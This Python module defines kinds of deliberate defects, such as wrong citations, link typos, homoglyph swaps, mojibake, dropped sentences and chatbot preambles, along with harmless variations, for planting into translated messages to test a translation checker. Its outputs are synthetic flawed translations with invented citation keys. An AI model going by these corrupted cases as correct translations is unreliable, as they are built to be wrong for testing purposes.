"""The kinds of defects, and of harmless variations, that `plant_defects.py` plants into translated messages.

Each kind takes one translated entry and returns it before and after one change, or nothing where the entry has no place
for it. What few real entries have, such as a citation, is first put into both the msgid and the msgstr: such a base is
called synthetic. The groups are those of the labels; a name that begins with ``b_`` is a harmless variation.
"""

from __future__ import annotations

import datetime as dt
import re
from dataclasses import dataclass, replace
from itertools import combinations
from typing import TYPE_CHECKING, TypeAlias

from babel import Locale
from babel.dates import format_date
from babel.numbers import format_decimal

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping, Sequence
    from random import Random


@dataclass(frozen=True, slots=True)
class Entry:
    """A translated message."""

    msgid: str
    msgstr: str
    synthetic: bool = False


@dataclass(frozen=True, slots=True)
class Scene:
    """What a change may draw on: chance, the locale, its other entries, and msgstrs of another script by msgid."""

    random: Random
    locale: str
    entries: Sequence[Entry]
    foreign: Mapping[str, str]

    @property
    def language(self) -> str:
        """The language of the locale."""
        return self.locale.partition("_")[0]

    @property
    def unspaced(self) -> bool:
        """Whether no blanks stand between words."""
        return self.language in {"ja", "zh"}


@dataclass(frozen=True, slots=True)
class Case:
    """An entry before and after one change."""

    msgid: str
    good: str
    bad: str
    note: str
    synthetic: bool


Make: TypeAlias = "Callable[[Entry, Scene], Case | None]"
Change: TypeAlias = "Callable[[re.Match[str], Scene], str | None]"


@dataclass(frozen=True, slots=True)
class Kind:
    """A class of cases. `makes` are tried in order, each on all entries, until there are enough cases."""

    group: str
    name: str
    makes: tuple[Make, ...]


# Reading a message

_CODE = re.compile(r"(?<!`)(?P<ticks>`+)(?!`)(?P<code>.+?)(?<!`)(?P=ticks)(?!`)", re.DOTALL)
_DESTINATION = r"(?:[^()\s]|\([^()\s]*\))+"
_LINK_TEXT = r"(?:[^\[\]`]|`[^`]*`|!\[[^\[\]]*\]\([^()]*\))+"
_LINK = re.compile(rf"(?<![!\\])\[(?P<text>{_LINK_TEXT})\]\((?P<url>{_DESTINATION})(?P<title>\s+\"[^\"]*\")?\)")
_IMAGE = re.compile(rf"!\[(?P<text>[^\[\]]*)\]\((?P<url>{_DESTINATION})(?:\s+\"[^\"]*\")?\)")
_AUTOLINK = re.compile(r"<(?P<url>https?://[^<>\s]+)>")
_BARE_URL = re.compile(r"(?<![(<\w\"'=])https?://[\w./%#?=&~+-]*[\w/]|(?<=<)https?://[^<>\s]+(?=>)")
_ELEMENT = re.compile(r"<(?P<tag>[a-z][a-z0-9]*)(?P<attributes>[^<>]*)(?<!/)>(?P<inner>[^<>]*)</(?P=tag)>")
_PROTECTED = re.compile(
    rf"{_CODE.pattern}|\]\({_DESTINATION}(?:\s+\"[^\"]*\")?\)|\]\[[^\[\]]*\]|</?[A-Za-z][^<>]*>|https?://[^\s)>]+"
    r"|\{\{.*?\}\}|\{%.*?%\}|\{[#.:][^{}]*\}|\$[^$\s][^$]*\$|&\#?\w+;|\[[\^@][^\[\]]*\]|%\w+|\w+(?:[._/-]\w+)*/\w+",
    re.DOTALL,
)
_STRONG = re.compile(r"\*\*(?P<inner>[^\s*](?:[^*]*[^\s*])?)\*\*")
_EMPHASIS = re.compile(r"(?<![\w*_\\])(?P<mark>[*_])(?P<inner>[^\s*_](?:[^*_`]*[^\s*_])?)(?P=mark)(?![\w*_])")
_INTEGER = re.compile(r"(?<![\w.,:#/+*-])\d{1,4}(?![\w%*\\]|[.,:/-]\d)")
_DECIMAL = re.compile(r"(?<![\w.,])\d{1,3}\.\d{1,3}(?![\w%]|\.\d)")
_PERCENT = re.compile(r"(?<![\w.,])\d{1,3}(?P<sign>\s?[%٪％])")
_EMOJI = re.compile(r"[\U0001F300-\U0001FAFF\u2600-\u27BF]\ufe0f?")
_CJK = "\u3040-\u30ff\u3400-\u9fff"
_END = re.compile(r"[.!?:;。！？：；؟؛…]+$")
_SENTENCE = re.compile(
    rf"(?:(?<=[^\W\d_]{{3}}[.!?؟])|(?<=[^\W\d_]{{2}}[)\"»”`][.!?؟])|(?<=[{_CJK}][.]))[ ]+|(?<=[。！？])[ ]*"
)
_NAME = re.compile(r"(?<![\w.@#/-])[A-Z][A-Za-z]{3,}(?![\w@/-]|\.\w)")
_MARKUP = re.compile(r"[`*_<>\[\]{}#|$\\\d]|https?:")
_MINIMUM = 5  # words of a text that a check may be expected to judge


def _masked(text: str) -> str:
    """The text with what is not prose blotted out, each character in its place."""
    return _PROTECTED.sub(lambda found: "\0" * len(found[0]), text)


def _matches(pattern: re.Pattern[str], text: str, *, plain: bool) -> list[re.Match[str]]:
    """Where a pattern stands: in prose only, or anywhere outside code spans."""
    if plain:
        return [found for found in pattern.finditer(_masked(text)) if "\0" not in found[0]]
    codes = [found.span() for found in _CODE.finditer(text)] if pattern is not _CODE else []
    found = (match for match in pattern.finditer(text) if match[0])
    return [match for match in found if not any(start <= match.start() < end for start, end in codes)]


def _sentences(text: str) -> list[tuple[int, int]]:
    """The spans of the sentences, without the blanks between them."""
    cuts = [found.span() for found in _SENTENCE.finditer(_masked(text)) if found.end() < len(text)]
    starts = [0, *(end for _, end in cuts)]
    return list(zip(starts, [*(start for start, _ in cuts), len(text)], strict=True))


def _between_words(text: str, scene: Scene) -> int | None:
    """A place in the prose where a word ends."""
    pattern = re.compile(rf"(?<=[{_CJK}])(?=[{_CJK}])" if scene.unspaced else r"(?<=[\w,])(?= [^\W\d_])")
    found = [match.start() for match in pattern.finditer(_masked(text))]
    return scene.random.choice(found) if found else None


def _case(entry: Entry, bad: str | None, note: str) -> Case | None:
    if bad is None or bad == entry.msgstr:
        return None
    return Case(entry.msgid, entry.msgstr, bad, note, entry.synthetic)


# Building blocks


def _replacing(pattern: re.Pattern[str], change: Change, *, plain: bool = False, shared: bool = True) -> Make:
    """A change of one match in the msgstr, by default of one that stands in the msgid too.

    A link, an image and an element count as shared if their destination or tag is.
    """

    def make(entry: Entry, scene: Scene) -> Case | None:
        found = _matches(pattern, entry.msgstr, plain=plain)
        if shared:
            known = {_identity(match) for match in _matches(pattern, entry.msgid, plain=plain)}
            found = [match for match in found if _identity(match) in known]
        if not found:
            return None
        match = scene.random.choice(found)
        new = change(match, scene)
        if new is None:
            return None
        text = entry.msgstr
        return _case(entry, text[: match.start()] + new + text[match.end() :], match[0])

    return make


def _identity(match: re.Match[str]) -> str:
    groups = match.groupdict()
    return groups.get("url") or groups.get("tag") or groups.get("mark") or match[0]


def _inserting(*pieces: str) -> Make:
    """One of some pieces between two words, as a word of its own."""

    def make(entry: Entry, scene: Scene) -> Case | None:
        place = _between_words(entry.msgstr, scene)
        if place is None:
            return None
        piece = " " + scene.random.choice(pieces)
        text = entry.msgstr
        tail = " " if scene.unspaced else ""
        return _case(entry, text[:place] + piece + tail + text[place:], repr(piece))

    return make


def _character_after_word(character: str) -> Make:
    def make(entry: Entry, scene: Scene) -> Case | None:
        place = _between_words(entry.msgstr, scene)
        if place is None:
            return None
        return _case(entry, entry.msgstr[:place] + character + entry.msgstr[place:], repr(character))

    return make


def _character_in(pattern: re.Pattern[str], group: str | int, character: str, *, plain: bool = False) -> Make:
    """A character inside one match of a pattern."""

    def change(match: re.Match[str], scene: Scene) -> str | None:
        start, end = (place - match.start() for place in match.span(group))
        if end - start < 2:  # noqa: PLR2004
            return None
        place = scene.random.randrange(start + 1, end)
        return match[0][:place] + character + match[0][place:]

    return _replacing(pattern, change, plain=plain, shared=not plain)


@dataclass(frozen=True, slots=True)
class _Place:
    """Where a piece is put into msgid and msgstr."""

    msgid: tuple[str, str]
    msgstr: tuple[str, str]


def _place(entry: Entry, scene: Scene, *, before_stop: bool, inside: bool) -> _Place | None:
    """The end of the message or, with `inside` and as many sentences on both sides, sometimes that of the first one."""
    if re.search(r"\[[\^@]|[¹²³⁴-⁹]|\n|\|", entry.msgid + entry.msgstr) or entry.msgstr != entry.msgstr.strip():
        return None
    source, target = _sentences(entry.msgid), _sentences(entry.msgstr)
    first = inside and len(source) == len(target) > 1 and scene.random.random() < 1 / 2
    sides = []
    for text, end in ((entry.msgid, source[0][1]), (entry.msgstr, target[0][1])):
        cut = end if first else len(text)
        if before_stop and (stop := _END.search(text[:cut])):
            cut = stop.start()
        sides.append((text[:cut], text[cut:]))
    return _Place(*sides)


def _planted(
    pieces: Callable[[Scene], tuple[str, str, str] | None],
    glue: str = " ",
    *,
    before_stop: bool = True,
    inside: bool = True,
) -> Make:
    """A case on a synthetic base: what stands in the msgid, in the msgstr, and in the changed msgstr."""

    def make(entry: Entry, scene: Scene) -> Case | None:
        place, found = _place(entry, scene, before_stop=before_stop, inside=inside), pieces(scene)
        if place is None or found is None:
            return None
        source, good, bad = (glue + piece if piece else "" for piece in found)
        (head, tail), (target_head, target_tail) = place.msgid, place.msgstr
        return Case(
            msgid=head + source + tail,
            good=target_head + good + target_tail,
            bad=target_head + bad + target_tail,
            note="synthetic base",
            synthetic=True,
        )

    return make


def _based(
    pieces: Sequence[str], make: Make, glue: str = " ", *, before_stop: bool = True, inside: bool = True
) -> Make:
    """A kind on entries into which one of some pieces has been put."""

    def on_base(entry: Entry, scene: Scene) -> Case | None:
        place = _place(entry, scene, before_stop=before_stop, inside=inside)
        if place is None:
            return None
        piece = glue + scene.random.choice(pieces)
        return make(Entry(piece.join(place.msgid), piece.join(place.msgstr), synthetic=True), scene)

    return on_base


def _prefixed(prefix: str, bad_prefix: str) -> Make:
    """A case on an entry that begins with some block markup."""

    def make(entry: Entry, scene: Scene) -> Case | None:
        del scene
        if re.match(r"[#\-*+>\d\s\[]", entry.msgid) or re.match(r"[#\-*+>\d\s\[]", entry.msgstr) or "\n" in entry.msgid:
            return None
        good, bad = prefix + entry.msgstr, bad_prefix + entry.msgstr
        return Case(prefix + entry.msgid, good, bad, "synthetic base", synthetic=True)

    return make


def _only(languages: set[str], make: Make) -> Make:
    return lambda entry, scene: make(entry, scene) if scene.language in languages else None


def _every(pattern: re.Pattern[str], new: str | Callable[[re.Match[str]], str], *, plain: bool = True) -> Make:
    """A change of every match in the msgstr."""

    def make(entry: Entry, scene: Scene) -> Case | None:
        del scene
        text = entry.msgstr
        for match in reversed(_matches(pattern, text, plain=plain)):
            text = text[: match.start()] + (new(match) if callable(new) else new) + text[match.end() :]
        return _case(entry, text, pattern.pattern)

    return make


# Citations

_KEYS = ("devries2021", "smith2019", "nakamura2020", "Ferraro:1998", "iso-639-3", "okonkwo_2023", "mueller2017a")


def _key(scene: Scene) -> str:
    return scene.random.choice(_KEYS)


def _two_keys(scene: Scene) -> list[str]:
    return scene.random.sample(_KEYS, 2)


def _number(scene: Scene) -> int:
    return scene.random.randint(1, 40)


def _cite_drop(scene: Scene) -> tuple[str, str, str]:
    whole = f"[@{_key(scene)}, p. {_number(scene)}]"
    return whole, whole, ""


def _cite_dup(scene: Scene) -> tuple[str, str, str]:
    key = _key(scene)
    return f"[@{key}]", f"[@{key}]", f"[@{key}; @{key}]"


def _cite_key(scene: Scene) -> tuple[str, str, str]:
    key, number = _key(scene), _number(scene)
    place = scene.random.randrange(1, len(key) - 1)
    wrong = key[:place] + key[place + 1] + key[place] + key[place + 2 :]
    if wrong == key:
        wrong = key[:-1]
    return f"[@{key}, p. {number}]", f"[@{key}, p. {number}]", f"[@{wrong}, p. {number}]"


def _cite_locator(scene: Scene) -> tuple[str, str, str]:
    key, number = _key(scene), _number(scene)
    return f"[@{key}, p. {number}]", f"[@{key}, p. {number}]", f"[@{key}, p. {number + scene.random.randint(1, 9)}]"


def _cite_pair_drop(scene: Scene) -> tuple[str, str, str]:
    first, second = _two_keys(scene)
    whole = f"[@{first}; @{second}]"
    return whole, whole, f"[@{scene.random.choice((first, second))}]"


def _cite_at_space(scene: Scene) -> tuple[str, str, str]:
    key = _key(scene)
    return f"[@{key}]", f"[@{key}]", scene.random.choice((f"[@ {key}]", f"[ @{key} ]".replace("@", "@ "), f"[＠{key}]"))


def _cite_at_drop(scene: Scene) -> tuple[str, str, str]:
    key = _key(scene)
    return f"[@{key}]", f"[@{key}]", f"[{key}]"


def _foot(bad: Callable[[int, Scene], str]) -> Callable[[Scene], tuple[str, str, str]]:
    def pieces(scene: Scene) -> tuple[str, str, str]:
        number = _number(scene)
        return f"[^{number}]", f"[^{number}]", bad(number, scene)

    return pieces


def _foot_swap(scene: Scene) -> tuple[str, str, str]:
    number = _number(scene)
    first, second = f"[^{number}]", f"[^{number + 1}]"
    return f"{first} {second}", f"{first} {second}", f"{second} {first}"


def _foot_moved(entry: Entry, scene: Scene) -> Case | None:
    """A footnote at the end of another sentence than in the source."""
    source, target = _sentences(entry.msgid), _sentences(entry.msgstr)
    if len(source) != len(target) or len(source) < 2 or "[^" in entry.msgid or "\n" in entry.msgid:  # noqa: PLR2004
        return None
    mark = f"[^{_number(scene)}]"
    right, wrong = scene.random.sample(range(len(source)), 2)
    return Case(
        msgid=_put(entry.msgid, source[right][1], mark),
        good=_put(entry.msgstr, target[right][1], mark),
        bad=_put(entry.msgstr, target[wrong][1], mark),
        note=f"sentence {right + 1}->{wrong + 1} of {len(source)}",
        synthetic=True,
    )


def _put(text: str, place: int, piece: str) -> str:
    return text[:place] + piece + text[place:]


def _native(number: int, scene: Scene) -> str:
    return str(number).translate(_DIGITS.get(scene.language, {}))


def _numcite(bad: Callable[[int, Scene], str]) -> Callable[[Scene], tuple[str, str, str]]:
    def pieces(scene: Scene) -> tuple[str, str, str]:
        number = _number(scene)
        return f"[{number}]", f"[{number}]", bad(number, scene)

    return pieces


_SUPERSCRIPTS = str.maketrans("0123456789", "⁰¹²³⁴⁵⁶⁷⁸⁹")


def _superscript(bad: Callable[[int, Scene], str]) -> Callable[[Scene], tuple[str, str, str]]:
    def pieces(scene: Scene) -> tuple[str, str, str]:
        number = scene.random.randint(1, 9)
        mark = str(number).translate(_SUPERSCRIPTS)
        return mark, mark, bad(number, scene)

    return pieces


def _html_sup(bad: Callable[[int, Scene], str]) -> Callable[[Scene], tuple[str, str, str]]:
    def pieces(scene: Scene) -> tuple[str, str, str]:
        number = scene.random.randint(1, 9)
        mark = f"<sup>{number}</sup>"
        return mark, mark, bad(number, scene)

    return pieces


def _definition_id(entry: Entry, scene: Scene) -> Case | None:
    number = _number(scene)
    return _prefixed(f"[^{number}]: ", f"[^{number + 1}]: ")(entry, scene)


# Links


def _url_typo(match: re.Match[str], scene: Scene) -> str | None:
    url = match["url"]
    letters = [place for place, character in enumerate(url) if character.isalpha() and place > len("https://")]
    if not letters:
        return None
    place = scene.random.choice(letters)
    wrong = scene.random.choice((url[:place] + url[place + 1 :], url[:place] + url[place] * 2 + url[place + 1 :]))
    return match[0].replace(f"]({url}", f"]({wrong}")


def _anchor_change(match: re.Match[str], scene: Scene) -> str | None:
    del scene
    url, hash_sign, anchor = match["url"].partition("#")
    return match[0].replace(match["url"], f"{url}#{anchor[::-1]}") if hash_sign and anchor else None


def _swap_two(pattern: re.Pattern[str], group: str | int, *, telling: bool = False, near: bool = False) -> Make:
    """Two matches trade one of their groups.

    With `telling`, only where a text shows which of them is which; with `near`, only inside a sentence, where the word
    order of a language may call for it.
    """

    def make(entry: Entry, scene: Scene) -> Case | None:
        text = entry.msgstr
        source = _matches(pattern, entry.msgid, plain=False)
        known, texts = {_identity(match) for match in source}, {match["text"] for match in source} if telling else set()
        sentences = _sentences(text) if near else [(0, len(text))]
        found = [match for match in _matches(pattern, text, plain=False) if _identity(match) in known]
        pairs = [
            (one, two)
            for one, two in combinations(found, 2)
            if one[group] != two[group] and _identity(one) != _identity(two)
            if any(start <= one.start() and two.end() <= end for start, end in sentences)
            if not telling or one["text"] in texts or two["text"] in texts
        ]
        if not pairs:
            return None
        one, two = scene.random.choice(pairs)
        between, tail = text[one.end(group) : two.start(group)], text[two.end(group) :]
        bad = text[: one.start(group)] + two[group] + between + one[group] + tail
        return _case(entry, bad, "two trade places")

    return make


def _reference_link(scene: Scene) -> tuple[str, str, str]:
    word, first, second = "x", *scene.random.sample(("ref-a", "guide", "spec-2", "faq", "api"), 2)
    return f"[{word}][{first}]", f"[{word}][{first}]", f"[{word}][{second}]"


_BASES_OF_LINKS = tuple(
    f"([docs](https://docs.example.org/{path}))" for path in ("guide/start.html#first", "api/v2/#errors", "faq#why")
)
_BASES_OF_IMAGES = ("![screenshot](images/start.png)", "![logo](https://img.example.org/logo-2.svg)")


# Markup


def _unwrapped(match: re.Match[str], scene: Scene) -> str:
    del scene
    return match["inner"]


def _code_translated(match: re.Match[str], scene: Scene) -> str | None:
    code = match["code"]
    words = list(re.finditer(r"[A-Za-z]{3,}", code))
    if not words:
        return None
    word = scene.random.choice(words)
    plain = [other for other in scene.entries if not _MARKUP.search(other.msgstr)]
    tokens = [token for other in plain[:200] for token in re.findall(r"[^\W\d_]{3,8}", other.msgstr)]
    if not tokens:
        return None
    new = code[: word.start()] + scene.random.choice(tokens).lower() + code[word.end() :]
    return None if new == code else match["ticks"] + new + match["ticks"]


def _math(scene: Scene) -> tuple[str, str, str]:
    formula = scene.random.choice(("a^2+b^2", r"\frac{1}{2}", "x_1 < x_2", "e^{-t}"))
    bad = scene.random.choice((f"${formula}", f"{formula}$", f"$ {formula} $", f"${formula[1:]}$"))
    return f"${formula}$", f"${formula}$", bad


# Numbers


def _other_digit(match: re.Match[str], scene: Scene) -> str:
    digits = [place for place, character in enumerate(match[0]) if character.isdigit()]
    place = scene.random.choice(digits)
    value = int(match[0][place])
    zero = ord(match[0][place]) - value
    new = chr(zero + scene.random.choice([digit for digit in range(1, 10) if digit != value]))
    return match[0][:place] + new + match[0][place + 1 :]


def _number_dropped(entry: Entry, scene: Scene) -> Case | None:
    known = {match[0] for match in _matches(_INTEGER, entry.msgid, plain=True)}
    found = [match for match in _matches(_INTEGER, entry.msgstr, plain=True) if match[0] in known]
    found = [match for match in found if entry.msgstr.count(match[0]) == 1]
    if not found:
        return None
    match = scene.random.choice(found)
    head, tail = entry.msgstr[: match.start()], entry.msgstr[match.end() :]
    return _case(entry, head + (tail[1:] if tail[:1] == " " else tail), match[0])


def _date_swap(scene: Scene) -> tuple[str, str, str]:
    month, day = scene.random.sample(range(1, 13), 2)
    year = scene.random.randint(1990, 2025)
    date = f"({year}-{month:02}-{day:02})"
    return date, date, f"({year}-{day:02}-{month:02})"


def _percent(scene: Scene) -> tuple[str, str, str]:
    whole, part = scene.random.randint(2, 98), scene.random.randint(1, 9)
    value = f"({whole}.{part}%)"
    return value, value, scene.random.choice((f"({whole}{part}%)", f"({whole}.{part})", f"({part}.{whole}%)"))


def _unit(scene: Scene) -> tuple[str, str, str]:
    value = scene.random.randint(2, 90)
    right, wrong = scene.random.choice((("km", "mi"), ("MB", "GB"), ("ms", "s"), ("kg", "g"), ("GHz", "MHz")))
    return f"({value} {right})", f"({value} {right})", f"({value} {wrong})"


def _sign(scene: Scene) -> tuple[str, str, str]:
    value = scene.random.randint(2, 90)
    sign = scene.random.choice("-−")
    return f"({sign}{value} °C)", f"({sign}{value} °C)", f"({value} °C)"


def _thousands(scene: Scene) -> tuple[str, str, str]:
    value = scene.random.randint(11, 99)
    return (
        f"({value},000)",
        f"({value},000)",
        scene.random.choice((f"({value},00)", f"({value})", f"({value},000,000)")),
    )


def _range(scene: Scene) -> tuple[str, str, str]:
    low = scene.random.randint(2, 40)
    high = low + scene.random.randint(2, 40)
    dash = scene.random.choice("-–")
    return f"({low}{dash}{high})", f"({low}{dash}{high})", scene.random.choice((f"({low})", f"({low}{high})"))


def _native_digit(scene: Scene) -> tuple[str, str, str] | None:
    digits = _DIGITS.get(scene.language)
    if digits is None:
        return None
    value = scene.random.randint(12, 98)
    wrong = scene.random.choice([other for other in range(12, 99) if other != value])
    return f"({value})", f"({value})".translate(digits), f"({wrong})".translate(digits)


# Terminology, completeness


def _name(change: Callable[[str, Scene], str]) -> Make:
    """A change of a name that stands once, inside a sentence, on both sides."""

    def make(entry: Entry, scene: Scene) -> Case | None:
        inside = [
            match[0]
            for match in _matches(_NAME, entry.msgid, plain=True)
            if match.start() and re.search(r"[a-z0-9,\0] $", _masked(entry.msgid)[: match.start()])
        ]
        found = [
            match
            for match in _matches(_NAME, entry.msgstr, plain=True)
            if match[0] in inside and entry.msgstr.count(match[0]) == entry.msgid.count(match[0]) == 1
        ]
        if not found:
            return None
        match = scene.random.choice(found)
        new = change(match[0], scene)
        text = entry.msgstr
        return _case(entry, text[: match.start()] + new + text[match.end() :], f"{match[0]}->{new}")

    return make


def _misspelt(name: str, scene: Scene) -> str:
    places = [place for place in range(1, len(name) - 1) if name[place] != name[place + 1]]
    place = scene.random.choice(places)
    return name[:place] + name[place + 1] + name[place] + name[place + 2 :]


def _long(text: str, scene: Scene, length: int) -> bool:
    return len(text) >= (length // 2 if scene.unspaced else length)


def _sentence_dropped(entry: Entry, scene: Scene) -> Case | None:
    spans = _sentences(entry.msgstr)
    if not len(_sentences(entry.msgid)) == len(spans) > 1:
        return None
    droppable = [
        place
        for place, (start, end) in enumerate(spans)
        if not _MARKUP.search(entry.msgstr[start:end]) and _long(entry.msgstr[start:end], scene, 24)
    ]
    if not droppable:
        return None
    place = scene.random.choice(droppable)
    text = entry.msgstr
    bad = text[: spans[place - 1][1]] + text[spans[place][1] :] if place else text[spans[1][0] :]
    return _case(entry, bad, f"sentence {place + 1} of {len(spans)} dropped, without markup or number")


def _half_untranslated(entry: Entry, scene: Scene) -> Case | None:
    source, target = _sentences(entry.msgid), _sentences(entry.msgstr)
    if not len(source) == len(target) > 1:
        return None
    place = scene.random.randrange(len(source))
    sentence = entry.msgid[slice(*source[place])]
    start, end = target[place]
    if len(re.findall(r"[a-z]{2,}", _masked(sentence))) < _MINIMUM or sentence == entry.msgstr[start:end]:
        return None
    return _case(entry, entry.msgstr[:start] + sentence + entry.msgstr[end:], f"sentence {place + 1} left in English")


def _truncated(entry: Entry, scene: Scene) -> Case | None:
    text = entry.msgstr
    if not _long(text, scene, 60) or not _END.search(text):
        return None
    cut = int(len(text) * scene.random.uniform(0.4, 0.68))
    if _MARKUP.search(text[cut:]) or _masked(text)[:cut].count("**") % 2:
        return None
    return _case(entry, text[:cut].rstrip(), f"cut to {cut}/{len(text)} characters, no markup or number lost")


def _untranslated(entry: Entry, scene: Scene) -> Case | None:
    del scene
    words = re.findall(r"\b[a-z]{2,}\b", _masked(entry.msgid))
    return _case(entry, entry.msgid, "identical to source") if len(words) >= _MINIMUM else None


def _wrong_entry(entry: Entry, scene: Scene) -> Case | None:
    if _MARKUP.search(entry.msgstr) or _MARKUP.search(entry.msgid):
        return None
    for other in scene.random.sample(scene.entries, min(60, len(scene.entries))):
        alike = 1 / 2 < len(other.msgstr) / len(entry.msgstr) < 2  # noqa: PLR2004
        if other.msgid != entry.msgid and alike and not _MARKUP.search(other.msgstr):
            return _case(entry, other.msgstr, "translation of another entry")
    return None


def _other_script(entry: Entry, scene: Scene) -> Case | None:
    return _case(entry, scene.foreign.get(entry.msgid), "translation into a language of another script")


def _doubled(entry: Entry, scene: Scene) -> Case | None:
    if not _END.search(entry.msgstr) or not _long(entry.msgstr, scene, 30) or "\n" in entry.msgstr:
        return None
    return _case(entry, f"{entry.msgstr} {entry.msgstr}", "text twice")


def _chat(entry: Entry, scene: Scene) -> Case | None:
    before, after = scene.random.choice(
        (
            ("Here is the translation: ", ""),
            ("Sure! Here's the translated text:\n\n", ""),
            ("", "\n\nNote: I kept the technical terms in English."),
            ("", " (Translation note: the code was left unchanged.)"),
        )
    )
    return _case(entry, before + entry.msgstr + after, "words of a translating machine")


# Punctuation


def _stop_changed(entry: Entry, scene: Scene) -> Case | None:
    stop, source = _END.search(entry.msgstr), _END.search(entry.msgid)
    if not stop or not source or source[0] not in {"?", "!", ":"} or len(stop[0]) != 1:
        return None
    full = "。" if scene.unspaced else "."
    return _case(entry, entry.msgstr[: stop.start()].rstrip() + full, f"{stop[0]}->{full}")


def _stop_dropped(entry: Entry, scene: Scene) -> Case | None:
    del scene
    stop, source = _END.search(entry.msgstr), _END.search(entry.msgid)
    if not stop or not source or len(stop[0]) != 1:
        return None
    return _case(entry, entry.msgstr[: stop.start()].rstrip(), stop[0])


def _stop_doubled(entry: Entry, scene: Scene) -> Case | None:
    stop, source = _END.search(entry.msgstr), _END.search(entry.msgid)
    if not stop or not source or source[0] != "." or stop[0] not in {".", "。"}:
        return None
    return _case(entry, entry.msgstr + ("." if not scene.unspaced else scene.random.choice("。.")), "stop twice")


def _odd_one(pairs: Mapping[str, str]) -> Make:
    """One half of a pair of brackets or quotation marks is lost."""
    pattern = re.compile("|".join(f"{re.escape(a)}[^{re.escape(a + b)}\n]+{re.escape(b)}" for a, b in pairs.items()))

    def make(entry: Entry, scene: Scene) -> Case | None:
        found = [match.span() for match in pattern.finditer(_masked(entry.msgstr))]
        if not found:
            return None
        start, end = scene.random.choice(found)
        place = scene.random.choice((start, end - 1))
        return _case(entry, entry.msgstr[:place] + entry.msgstr[place + 1 :], entry.msgstr[place])

    return make


_PARENTHESES = {"(": ")", "（": "）"}
_QUOTES = {'"': '"', "“": "”", "„": "“", "«": "»", "「": "」", "『": "』"}

# Unicode

_WORD = re.compile(r"[^\W\d_]{4,}")
_LATIN_WORD = re.compile(r"(?<![\w@.-])[A-Za-z]{4,}(?![\w@.-])")
_LOOKALIKES = dict(zip("aceopxyABCEHKMOPTX", "асеорхуАВСЕНКМОРТХ", strict=True))
_LATIN_LOOKALIKES = {cyrillic: latin for latin, cyrillic in _LOOKALIKES.items()}
_LEGACY_CHARSETS = {
    "ru": "cp1251",
    "uk": "cp1251",
    "zh": "gbk",
    "ja": "shift_jis",
    "ko": "cp949",
    "ar": "cp1256",
    "fa": "cp1256",
    "el": "cp1253",
    "tr": "cp1254",
    "pl": "cp1250",
    "cs": "cp1250",
    "vi": "cp1258",
}


def _lookalike(group: str | int, table: Mapping[str, str]) -> Change:
    def change(match: re.Match[str], scene: Scene) -> str | None:
        offset = match.start(group) - match.start()
        places = [offset + place for place, character in enumerate(match[group]) if character in table]
        if not places:
            return None
        place = scene.random.choice(places)
        return match[0][:place] + table[match[0][place]] + match[0][place + 1 :]

    return change


def _homoglyph_word(entry: Entry, scene: Scene) -> Case | None:
    cyrillic = scene.language in {"ru", "uk", "bg", "sr", "be"}
    pattern, table = (_WORD, _LATIN_LOOKALIKES) if cyrillic else (_LATIN_WORD, _LOOKALIKES)
    return _replacing(pattern, _lookalike(0, table), plain=True, shared=False)(entry, scene)


def _mojibake(entry: Entry, scene: Scene) -> Case | None:
    del scene
    if entry.msgstr.isascii():
        return None
    bad = "".join(
        bytes([byte]).decode("cp1252", "ignore") or "\xa0" if byte > 0x7F else chr(byte)  # noqa: PLR2004
        for byte in entry.msgstr.encode()
    )
    return _case(entry, bad, "utf-8 read as windows-1252")


def _mojibake_legacy(entry: Entry, scene: Scene) -> Case | None:
    charset = _LEGACY_CHARSETS.get(scene.language, "latin-1")
    if sum(not character.isascii() for character in entry.msgstr) < 2:  # noqa: PLR2004
        return None
    bad = "".join(c for c in entry.msgstr.encode().decode(charset, "ignore") if c == "\n" or c.isprintable())
    return _case(entry, bad, f"utf-8 read as {charset}")


def _letter_lost(entry: Entry, scene: Scene) -> Case | None:
    places = [match.start() for match in re.finditer(r"[^\W\d_]", _masked(entry.msgstr))]
    telling = [place for place in places if not entry.msgstr[place].isascii()] or places
    if not telling:
        return None
    place = scene.random.choice(telling)
    return _case(entry, entry.msgstr[:place] + "\ufffd" + entry.msgstr[place + 1 :], "U+FFFD")


# Harmless variations

_DIGITS = {
    "ar": str.maketrans("0123456789%", "٠١٢٣٤٥٦٧٨٩٪"),
    "fa": str.maketrans("0123456789%", "۰۱۲۳۴۵۶۷۸۹٪"),
    "bn": str.maketrans("0123456789", "০১২৩৪৫৬৭৮৯"),
    "hi": str.maketrans("0123456789", "०१२३४५६७८९"),
    "ja": str.maketrans("0123456789%", "０１２３４５６７８９％"),
    "zh": str.maketrans("0123456789%", "０１２３４５６７８９％"),
}
_NUMBER_WORDS = {
    "ar": "اثنان ثلاثة أربعة خمسة ستة سبعة ثمانية تسعة عشرة",
    "cs": "dva tři čtyři pět šest sedm osm devět deset",
    "da": "to tre fire fem seks syv otte ni ti",
    "de": "zwei drei vier fünf sechs sieben acht neun zehn",
    "es": "dos tres cuatro cinco seis siete ocho nueve diez",
    "fa": "دو سه چهار پنج شش هفت هشت نه ده",
    "fr": "deux trois quatre cinq six sept huit neuf dix",
    "id": "dua tiga empat lima enam tujuh delapan sembilan sepuluh",
    "it": "due tre quattro cinque sei sette otto nove dieci",
    "ja": "二 三 四 五 六 七 八 九 十",
    "pl": "dwa trzy cztery pięć sześć siedem osiem dziewięć dziesięć",
    "pt": "dois três quatro cinco seis sete oito nove dez",
    "ro": "doi trei patru cinci șase șapte opt nouă zece",
    "ru": "два три четыре пять шесть семь восемь девять десять",
    "tr": "iki üç dört beş altı yedi sekiz dokuz on",
    "uk": "два три чотири п’ять шість сім вісім дев’ять десять",
    "vi": "hai ba bốn năm sáu bảy tám chín mười",
    "zh": "两 三 四 五 六 七 八 九 十",
}
_UNITS = {
    "ar": ("كم", "كجم"),
    "fa": ("کیلومتر", "کیلوگرم"),
    "ru": ("км", "кг"),
    "uk": ("км", "кг"),
    "zh": ("公里", "公斤"),
    "ja": ("キロメートル", "キログラム"),
    "el": ("χλμ.", "κιλά"),
}
_LOCATORS = {
    "ar": "ص. {}",
    "cs": "s. {}",
    "da": "s. {}",
    "de": "S. {}",
    "fa": "ص. {}",
    "ja": "{}頁",
    "pl": "s. {}",
    "ru": "с. {}",
    "tr": "s. {}",
    "uk": "с. {}",
    "vi": "tr. {}",
    "zh": "第{}页",
}
_SPACED_PERCENT = {"cs", "da", "de", "es", "fr", "ro", "ru", "sv", "uk"}
_RIGHT_TO_LEFT = {"ar", "fa", "he", "ur"}
_UNSPACED = {"ja", "zh"}


